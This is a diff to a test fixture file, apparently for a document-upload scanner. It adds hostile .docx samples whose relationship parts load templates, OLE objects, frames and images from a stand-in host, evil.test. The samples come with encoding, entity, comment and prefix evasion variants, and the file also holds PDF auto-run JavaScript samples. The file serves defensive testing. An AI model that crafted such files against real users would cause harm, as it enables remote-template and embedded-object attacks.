@@ -22,6 +22,14 @@ const docx = (what: string, ...files: ZippedFile[]): Upload => {
   const parts = [file('[Content_Types].xml', '<Types/>'), file('word/document.xml', '<w/>'), ...files];
   return { what, name: 'a.docx', bytes: zipFile(parts) };
 };
+const relations = (what: string, written: Buffer | string, part = 'word/_rels/settings.xml.rels') =>
+  docx(what, file(part, written));
+const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
+const outside = (type: string) =>
+  `<Relationship Id="r1" Type="${OFFICE}/${type}" Target="http://evil.test/a" TargetMode="External"/>`;
+const related = (...tags: string[]) =>
+  `<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${tags.join('')}</Relationships>`;
+const swapped = (words: string) => Buffer.from(`\uFEFF${words}`, 'utf16le').swap16();
 const pdf = (what: string, ...objects: (Buffer | string)[]): Upload => {
   const parts = ['%PDF-1.7\n', ...objects, '\ntrailer<</Root 1 0 R>>\n%%EOF\n'];
   return { what, name: 'a.pdf', bytes: Buffer.concat(parts.map((part) => Buffer.from(part))) };
@@ -66,6 +74,33 @@ export const HOSTILE_UPLOADS: readonly Upload[] = [
   docx('macros', file('word/vbaProject.bin', 'x')),
   docx('controls', file('word/activeX/activeX1.bin', 'x')),
   docx('what is put in', file('word/embeddings/oleObject1.bin', 'x')),
+  relations('a template from elsewhere', related(outside('attachedTemplate'))),
+  relations('an object from elsewhere', related(outside('oleObject')), 'word/_rels/document.xml.rels'),
+  relations('a frame from elsewhere', related(outside('frame')), 'WORD/_RELS/webSettings.xml.RELS'),
+  relations('a chapter from elsewhere', related(outside('subDocument'))),
+  relations('a picture from elsewhere', related(outside('image')), 'word/_rels/header1.xml.rels'),
+  relations('a template in other quotes', related(outside('attachedTemplate')).replaceAll('"', "'")),
+  relations(
+    'a template spelled out',
+    related(outside('attachedTemplate').replace('External', '&#69;xtern&#x61;l')),
+  ),
+  relations('a template called a link twice', related(outside('attachedTemplate" x:Type="a/hyperlink'))),
+  relations(
+    'a template under a prefix',
+    related(outside('attachedTemplate')).replaceAll(/(<\/?)(?=R)/g, '$1p:'),
+  ),
+  relations('a template in wide letters', Buffer.from(`\uFEFF${related(outside('oleObject'))}`, 'utf16le')),
+  relations(
+    'a template in swapped letters',
+    swapped(related(outside('oleObject')).replace('UTF-8', 'UTF-16')),
+  ),
+  relations('a template in letters of its own', related(outside('oleObject')).replace('UTF-8', 'UTF-7')),
+  relations('a template behind a comment', related('<!-- <a b=" -->', outside('frame'), '<!-- "> -->')),
+  relations(
+    'a template by an entity',
+    `<!DOCTYPE a [<!ENTITY e "External">]>${related(outside('frame').replace('External', '&e;'))}`,
+  ),
+  zip('a document that brings something', file('a.docx', relations('', related(outside('frame'))).bytes)),
   pdf('a script', '1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj'),
   pdf('a script under another name', '1 0 obj<</OpenAction<</S/J#61vaScr#69pt/JS(x)>>>>endobj'),
   pdf('a script in packed objects', packed('1 0 <</OpenAction<</S/JavaScript/JS(x)>>>>')),
@@ -94,6 +129,18 @@ export const GOOD_UPLOADS: readonly Upload[] = [
   zip('a document', file('nota.docx', docx('').bytes)),
   zip('a long text', file('planilla.txt', 'mucho '.repeat(100_000))),
   docx('a document', file('word/styles.xml', '<s/>')),
+  docx(
+    'a document with links and parts',
+    file(
+      'word/_rels/document.xml.rels',
+      related(
+        outside('hyperlink'),
+        `<Relationship Id="r2" Type="${OFFICE}/image" Target="media/año &amp; ruta.png"/>`,
+        `<Relationship Id='r3' Type='${OFFICE}/styles' Target='styles.xml' TargetMode='Internal' />`,
+      ),
+    ),
+    file('word/_rels/fontTable.xml.rels', Buffer.from(`\uFEFF${related()}`)),
+  ),
   pdf('a page that opens at its top', '1 0 obj<</OpenAction[3 0 R/XYZ null null 0]>>endobj'),
   pdf('a page with an address', '1 0 obj<</A<</S/URI/URI(http://valle.test)>>>>endobj'),
   pdf('packed objects', packed('1 0 <</Type/Catalog>>')),
